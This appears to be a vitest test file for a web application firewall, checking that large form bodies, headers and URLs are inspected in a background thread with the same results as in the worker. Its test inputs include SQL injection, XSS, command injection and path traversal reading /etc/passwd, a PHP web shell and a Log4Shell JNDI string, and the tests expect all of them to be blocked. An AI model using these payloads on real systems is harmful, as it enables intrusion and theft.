/** Long requests are inspected by the WAF in a thread: decided as in the worker, while the worker serves others. */
import { readdirSync, readFileSync } from 'node:fs'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { coreRuleSet } from '../../server/src/waf/core-rule-set.ts'
import type { NodeDisk } from './disk.ts'
import { Box, until } from './harness.ts'
import { StubOrigin } from './origin.ts'
import { givePrefilter } from './prefilter.ts'

let box: Box
let origin: StubOrigin

beforeAll(async () => {
  origin = await StubOrigin.start((_, response) => response.end('hello'))
  const prepare = (disk: NodeDisk) => {
    const origins = [{ port: origin.port }]
    const { part } = coreRuleSet()
    const exception = { urlRegex: '', methods: [], blockType: 0 }
    const rules = [
      { ...exception, id: 7, rule: 942_100, action: 'off' as const, target: 'arg:note' },
      { ...exception, id: 8, rule: 930_120, action: 'off' as const, target: '' },
    ]
    disk.feed(disk.site({ site: 1, hosts: ['shop.test'], origins, requires: ['waf'], waf: { rules: part } }))
    const waf = { rules: part, module: { rules } }
    disk.feed(disk.site({ site: 2, hosts: ['excepted.test'], origins, requires: ['waf'], waf }))
  }
  box = await Box.start({ workers: 1 }, prepare)
  await post('shop.test', 'text=hello')
  await givePrefilter(box)
  // The first long request has a thread load the rule set.
  await until('a thread that inspects', async () => {
    const before = inspectedBeside()
    await post('shop.test', long('text=hello'))
    return inspectedBeside() > before
  })
})
afterAll(async () => {
  await box?.end()
  await origin?.end()
})

const form = { 'content-type': 'application/x-www-form-urlencoded' }
const filling = 'Lorem ipsum dolor sit amet consetetur sadipscing elitr '.repeat(200).replaceAll(' ', '+')
/** The form with more than the 8 KB from which a thread is used. */
const long = (body: string) => `filling=${filling}&${body}`

let posted = 0
function post(host: string, body: string) {
  posted++
  return box.request(host, '/form', { method: 'POST', headers: form, body })
}

/** CPU time of the worker's threads that run behind it, in the kernel's ticks and fractions of one. */
function inspectedBeside(): number {
  const [worker] = box.workers()
  let taken = 0
  for (const thread of readdirSync(`/proc/${worker}/task`)) {
    const fields = readFileSync(`/proc/${worker}/task/${thread}/stat`, 'latin1').split(') ')[1]!.split(' ')
    const [runs] = readFileSync(`/proc/${worker}/task/${thread}/schedstat`, 'latin1').split(' ')
    if (Number(fields[16]) > 0) taken += Number(runs)
  }
  return taken
}

const attacks = {
  sql: 'id=1+union+select+password+from+users--',
  sqlInComments: "id=1'/**/or/**/1=1--",
  script: 'comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  scriptEncodedTwice: 'comment=%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E',
  command: 'file=%3Bcat+%2Fetc%2Fpasswd',
  path: 'file=..%2F..%2F..%2Fetc%2Fpasswd',
  php: 'data=%3C%3Fphp+system(%24_GET%5B0%5D)%3B',
  java: 'x=%24%7Bjndi%3Aldap%3A%2F%2F10.0.0.1%2Fa%7D',
  nul: 'text=a%00b',
}

const rowsOfForms = () => box.rows().filter(({ path }) => path === '/form')

/** What the WAF finds in each form, one after the other, according to the log. */
async function foundIn(host: string, bodies: readonly string[]) {
  for (const body of bodies) await post(host, body)
  await until('the rows of the requests', () => rowsOfForms().length === posted)
  const rows = rowsOfForms().slice(-bodies.length)
  return rows.map(({ status, waf, wafScore }) => ({ status, waf, wafScore }))
}

test('attacks are found in a thread as in the worker', async () => {
  const inWorker = await foundIn('shop.test', Object.values(attacks))
  expect(inWorker.map(({ status }) => status)).toEqual(inWorker.map(() => 403))
  const before = inspectedBeside()
  expect(await foundIn('shop.test', Object.values(attacks).map(long))).toEqual(inWorker)
  expect(inspectedBeside()).toBeGreaterThan(before)
})

test('an ordinary long form passes', async () => {
  expect(await post('shop.test', long('text=hello'))).toMatchObject({ status: 200 })
})

test('long headers and a long URL are inspected in a thread, too', async () => {
  const before = inspectedBeside()
  const query = `/?filling=${filling.slice(0, 3_000)}&id=1+union+select+password+from+users--`
  const cookie = `filling=${filling.slice(0, 3_000)}; other=${filling.slice(0, 3_000)}`
  expect((await box.request('shop.test', query, { headers: { cookie } })).status).toBe(403)
  expect(inspectedBeside()).toBeGreaterThan(before)
})

test('exceptions hold and are logged as in the worker', async () => {
  const body = "note=1'/**/or/**/1=1--&file=/etc/passwd"
  const inWorker = await foundIn('excepted.test', [body])
  expect(inWorker[0]!.waf).toContain('except:7')
  expect(inWorker[0]!.waf).toContain('except:8')
  expect(await foundIn('excepted.test', [long(body)])).toEqual(inWorker)
})
